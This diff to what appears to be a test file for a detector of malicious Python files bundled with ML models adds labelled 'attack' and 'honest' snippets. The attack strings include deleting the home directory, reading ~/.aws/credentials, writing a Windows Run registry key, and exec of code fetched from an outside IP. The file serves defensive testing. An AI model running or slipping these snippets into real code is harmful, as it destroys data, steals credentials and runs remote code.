@@ -47,6 +47,9 @@ const ATTACKS = [
   "class D:\n  def __add__(self, o):\n    import os\n    os.system('id')\nD() + 1",
   "def f():\n  import os\n  os.system('id')\nlist(map(lambda x: x(), [f]))",
   "__import__('os.path').system('id')",
+  "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))",
+  "import os\nkey = open(os.path.expanduser('~/.aws/credentials')).read()",
+  "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, 2)",
   "__import__('os.path', fromlist=['os']).os.system('id')",
   "__import__('importlib.util').import_module('os').system('id')",
   "__import__('builtins').exec(__import__('urllib.request').request.urlopen('http://203.0.113.5/p').read())",
@@ -54,6 +57,8 @@ const ATTACKS = [
 
 // What honest files beside models do. None of it may be a signal.
 const HONEST = [
+  "import shutil, os\nshutil.rmtree(os.path.expanduser('~/.cache/model'), ignore_errors=True)",
+  "import os\nCACHE = os.path.expanduser('~/.cache')\nwith open(os.path.expanduser('~/.config/x.json')) as f: x = f.read()",
   "import subprocess\ndef version():\n    return subprocess.check_output(['git', 'rev-parse', 'HEAD'])\nX = version()",
   "import subprocess, os\nsubprocess.run('pip install flash-attn --no-build-isolation', env={**os.environ, 'A': '1'}, shell=True)",
   "import os\nos.system('pip install -q gradio==4.0')\nos.system('wget https://example.org/model.pth -O model.pth')",
